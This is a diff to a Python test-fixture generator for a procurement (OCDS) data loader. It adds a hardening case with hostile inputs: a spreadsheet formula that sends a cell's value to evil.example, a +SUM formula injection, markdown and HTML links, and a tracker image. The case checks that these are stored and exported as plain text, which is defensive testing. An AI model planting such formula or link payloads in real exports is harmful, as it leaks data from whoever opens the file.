@@ -403,6 +403,37 @@ case("58_release_dates_offset_order.json", js(package(
     values=[["processes", "ocid", "ocds-c58-1", "title", "A las 06:00 UTC"],
             ["processes", "ocid", "ocds-c58-1", "last_release_date", "2020-02-01T06:00:00"]])
 
+# ---- hardening: markdown links, HTML links and spreadsheet formulas in stored text ----------------------
+MD_LINK = "X [MDLINK](https://evil.example/c) ![i](http://127.0.0.1:8799/c.png)"
+HTML_LINK = '<a href="https://evil.example">clic</a>'
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+
+
+def _award(supplier: dict, amount: float) -> dict:
+    return {"id": "a1", "status": "active", "date": "2020-02-01T00:00:00Z", "suppliers": [supplier],
+            "value": {"amount": amount, "currency": "MXN"}}
+
+
+_SUPPLIER61 = {"id": "MX-RFC-EVI010101AB1", "name": "Proveedor Uno"}
+case("61_hostile_links_formulas.json", js(package(
+    rel("ocds-c61-1", tender=tender(FORMULA, amount=100.0, currency=MD_LINK),
+        buyer={"id": "b61-1", "name": HTML_LINK},
+        parties=[{"id": "b61-1", "name": HTML_LINK, "roles": ["buyer"]}, {**_SUPPLIER61, "roles": ["supplier"]}],
+        awards=[_award(_SUPPLIER61, 100.0)]),
+    rel("ocds-c61-2", tender=tender("+SUM(1,2)", amount=50.0),
+        buyer={"id": "b61-2", "name": f"{HTML_LINK} dos"},
+        parties=[{"id": "b61-2", "name": f"{HTML_LINK} dos", "roles": ["buyer"]},
+                 {**_SUPPLIER61, "roles": ["supplier"]}],
+        awards=[_award(_SUPPLIER61, 50.0)]),
+    rel('ocds-c61-<a href="https://evil.example">3</a>',
+        tender={"id": "t3", "title": "Obra", "tenderPeriod": {"startDate": "2020-01-01T00:00:00Z",
+                                                               "endDate": "2020-02-01T00:00:00Z"}}),
+)), "a markdown link and a tracker image as a currency, HTML links as buyer names, spreadsheet formulas as "
+    "titles: stored verbatim, shown and exported as text (tests/test_hardening.py)",
+    read=3, loaded=3, rejected=0, processes=3,
+    values=[["processes", "ocid", "ocds-c61-1", "title", FORMULA],
+            ["processes", "ocid", "ocds-c61-1", "buyer_name", HTML_LINK]])
+
 
 def main() -> None:
     for old in HERE.iterdir():
